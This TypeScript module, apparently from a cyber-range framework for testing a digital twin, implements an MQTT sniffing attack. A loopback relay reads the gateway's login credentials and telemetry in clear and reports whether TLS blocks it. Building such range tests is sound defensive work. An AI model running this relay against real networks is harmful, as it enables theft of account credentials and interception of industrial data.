/**
 * Network sniffing of MQTT: the attacker sits in the path, here as a TCP relay on loopback
 * between a client the range runs (its gateway, logging in with the range's gateway account)
 * and the broker, and reads what passes: the CONNECT's user name and password and every
 * telemetry message, in clear on plain `mqtt://`. When the twin offers MQTT over TLS (its
 * `GET /api/network` names an `mqtts://` endpoint) the gateway connects there, verifying the
 * broker's certificate, and the relay sees only ciphertext: it reads neither.
 */
import { randomBytes } from 'node:crypto';
import { createServer, connect, type Server, type Socket } from 'node:net';
import { TwinlineError } from '../../../sim/core/errors.ts';
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { trail } from './common.ts';
import { rangeClient } from './mqtt-range.ts';

/** how long the range's client runs through the relay [ms] */
const LISTEN_MS = 2500;
/** messages read off the wire kept as samples */
const SAMPLES = 5;

/** What the relay read. */
interface Capture {
  connects: { clientId: string; user: string | null; password: string | null }[];
  /** PUBLISH packets read in clear (both directions) */
  publishes: number;
  samples: string[];
  /** bytes relayed */
  bytes: number;
}

/** `ab…` and the length: enough to show the password was read, not enough to reuse it from a report. */
function masked(pw: string): string {
  return `${pw.slice(0, 2)}… (${pw.length} characters)`;
}

export const mqttSniff: Attack = {
  id: 'mqtt-sniff',
  title: 'MQTT network sniffing: user name, password and telemetry read in clear by a relay in the path',
  techniques: [T.networkSniffing, T.adversaryInTheMiddle, T.validAccounts],
  face: 'mqtt',
  preconditions: ['a position in the path between a client and the broker (a relay, a mirrored switch port, ARP spoofing); here a relay on loopback', 'a client that connects through it (the range runs its gateway)'],
  steps: [
    'open a TCP relay on loopback to the broker',
    'the range\'s gateway connects through the relay with its account and subscribes #',
    'read the CONNECT (user name, password) and the PUBLISH packets off the relayed bytes',
  ],
  expectedImpact: 'none on the process; the attacker holds a valid account (user name and password) and the line\'s live values: the foothold for every attack that needs an account',
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { mqttClose } = await import('../clients/mqtt.ts');
    const { PacketReader, readConnect, readPublish } = await import('../clients/mqtt-raw.ts');
    if (ctx.target.protocol !== 'mqtt:' && ctx.target.protocol !== 'mqtts:') {
      throw new TwinlineError('BAD_ARGUMENT', `mqtt-sniff relays TCP: give the broker's mqtt:// (or mqtts://) endpoint, not ${ctx.target.protocol}//`);
    }
    const evidence: string[] = [];
    // the twin's TLS endpoint, when it offers one: the range's gateway, like any well-configured one, connects there
    const offered = await ctx.observer?.mqttTls() ?? null;
    let upstream = ctx.target;
    if (ctx.target.protocol === 'mqtt:' && offered !== null) {
      // the checked host, at the TLS port the twin reports
      upstream = new URL(`mqtts://${ctx.target.host.replace(/:\d+$/, '')}:${offered.url.port}`);
      evidence.push(`the twin offers MQTT over TLS (${offered.url.href}): its gateway connects there, through the relay`);
    }
    const tls = upstream.protocol === 'mqtts:';
    const ca = offered?.ca ?? null;
    const cap: Capture = { connects: [], publishes: 0, samples: [], bytes: 0 };
    const sockets = new Set<Socket>();
    // the relay: every connection to it is piped to the broker, both directions read as they pass
    const relay: Server = createServer((down) => {
      const up = connect({ host: upstream.hostname.replace(/^\[|\]$/g, ''), port: Number(upstream.port || (tls ? 8883 : 1883)) });
      for (const s of [down, up]) {
        sockets.add(s);
        s.on('error', () => undefined);
        s.on('close', () => {
          sockets.delete(s);
          down.destroy();
          up.destroy();
        });
      }
      const tap = (from: Socket, to: Socket): void => {
        const reader = new PacketReader();
        from.on('data', (d: Buffer) => {
          cap.bytes += d.length;
          to.write(d);
          for (const p of reader.push(d)) {
            if (p.type === 1) {
              const c = readConnect(p.body);
              if (c !== null && cap.connects.length < 10) cap.connects.push(c);
            } else if (p.type === 3) {
              const m = readPublish(p.flags, p.body);
              if (m === null) continue;
              cap.publishes++;
              const text = m.payload.subarray(0, 120).toString('utf8');
              // telemetry in clear: printable text (UNS JSON); Sparkplug's protobuf is just as readable to a decoder
              if (cap.samples.length < SAMPLES && /^[\x20-\x7e]*$/.test(text) && text !== '') cap.samples.push(`${m.topic} = ${text}`);
            }
          }
        });
      };
      tap(down, up);
      tap(up, down);
    });
    await new Promise<void>((resolve, reject) => {
      relay.once('error', reject);
      relay.listen(0, '127.0.0.1', () => resolve());
    });
    const port = (relay.address() as { port: number }).port;
    const close = async (): Promise<void> => {
      for (const s of sockets) s.destroy();
      await new Promise<void>((r) => relay.close(() => r()));
    };
    ctx.atEnd(close);
    const via = new URL(`${tls ? 'mqtts' : 'mqtt'}://127.0.0.1:${port}`);
    evidence.push(`relay: listening on ${via.host}, forwarding to ${upstream.host}`);
    const tag = randomBytes(3).toString('hex');
    // the range's gateway, with the account the range gives it, connecting through the relay
    // over TLS the gateway verifies the broker's certificate (from the range's home), so the relay can only pass bytes on
    const verify = ca === null ? { rejectUnauthorized: false } : { ca, servername: 'localhost', rejectUnauthorized: true };
    const gateway = await rangeClient({ ...ctx, target: via }, evidence, 'gateway', `line-gw-${tag}`, tls ? verify : {}, true);
    if (gateway !== null) {
      await gateway.client.subscribeAsync('#').catch(() => undefined);
      await new Promise((r) => setTimeout(r, LISTEN_MS));
      await mqttClose(gateway.client);
      evidence.push(`range: its gateway received ${gateway.live} live messages${tls ? ` over TLS${ca === null ? ' (certificate not verified: none in the range\'s home)' : ' (certificate verified)'}` : ''}`);
    }
    await close();
    const account = ctx.observer?.account('gateway') ?? null;
    const creds = cap.connects.filter((c) => c.user !== null);
    for (const c of creds) {
      const same = account !== null && c.user === account.user && c.password === account.password;
      evidence.push(`relay: CONNECT read in clear: client id ${c.clientId}, user "${c.user}", password ${c.password === null ? '(none)' : masked(c.password)}${same ? ' — the gateway\'s real password' : ''}`);
    }
    for (const s of cap.samples) evidence.push(`relay: PUBLISH read in clear: ${s}`);
    evidence.push(`relay: ${cap.bytes} bytes relayed, ${cap.connects.length} CONNECT and ${cap.publishes} PUBLISH packets readable${tls ? ' (TLS: nothing should be)' : ''}`);
    await trail(ctx, evidence, false);
    const password = creds.some((c) => c.password !== null);
    return {
      outcome: password || cap.publishes > 0 ? 'succeeded' : 'blocked',
      evidence,
      impact: { tls, gatewayReceived: gateway?.live ?? null, bytesRelayed: cap.bytes, connectsRead: cap.connects.length, userRead: creds[0]?.user ?? null, passwordRead: password, publishesRead: cap.publishes },
    };
  },
  async cleanup() {
    // the relay and the range's client are closed at the end of the run; nothing on the line changed
  },
};
